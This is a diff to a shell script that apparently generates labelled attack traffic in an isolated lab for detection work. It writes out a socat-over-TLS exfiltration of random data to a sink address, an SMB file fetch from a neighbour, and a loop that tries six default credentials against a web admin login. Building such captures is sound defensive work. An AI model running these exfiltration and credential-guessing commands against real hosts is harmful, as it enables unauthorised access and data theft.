@@ -3,6 +3,7 @@
 # missed. Same lab and rules; every tool under `timeout`, every loop bounded. Ids frq-*.
 
 TLS_SHELL_IP=$NET.23 TLS_SINK_IP=$NET.24
+export NET VIC_IP W
 ns vic ip addr add "$TLS_SHELL_IP/24" dev eth0
 ns vic ip addr add "$TLS_SINK_IP/24" dev eth0
 ns vic timeout 900 socat -u "OPENSSL-LISTEN:443,bind=$TLS_SINK_IP,reuseaddr,fork,cert=$W/tls.crt,key=$W/tls.key,verify=0" STDOUT >/dev/null 2>&1 &
@@ -57,6 +58,8 @@ CAP_VIC_IP=$TLS_SINK_IP fcap frq-exfil-tls-2mb exfil socat-openssl attacker publ
   "head -c 2000000 /dev/urandom | socat -u STDIN OPENSSL:$TLS_SINK_IP:443,verify=0,connect-timeout=5"
 
 # ---------- lateral ----------
-# One SMB session to one neighbour with curl's smb:// (two file downloads), nothing else.
-fcap frq-lat-curl-smb lateral curl-smb attacker lan false 60 bash -c \
-  "curl -s -m 20 -u guest: smb://$VIC_IP/public/config.ini -o /dev/null; curl -s -m 20 -u guest: smb://$VIC_IP/public/backup.tar -o /dev/null"
+# One SMB session to one neighbour, one small file (smbget; curl's smb:// speaks only SMB1, which samba refuses).
+fcap frq-lat-smbget-one lateral smbget attacker lan false 60 smbget -a -q -o /dev/null "smb://$VIC_IP/public/config.ini"
+# An IoT worm's way in: a neighbour's web admin page, then 6 default-credential logins (HTTP basic auth).
+fcap frq-lat-web-admin lateral curl-lan-web-admin attacker lan false 60 bash -c \
+  "curl -s -m 5 -o /dev/null http://$NET.31/; for c in admin:admin admin:1234 root:root admin:password user:user root:12345; do curl -s -m 5 -o /dev/null -u \$c http://$NET.31/cgi-bin/login.cgi; sleep 1; done"
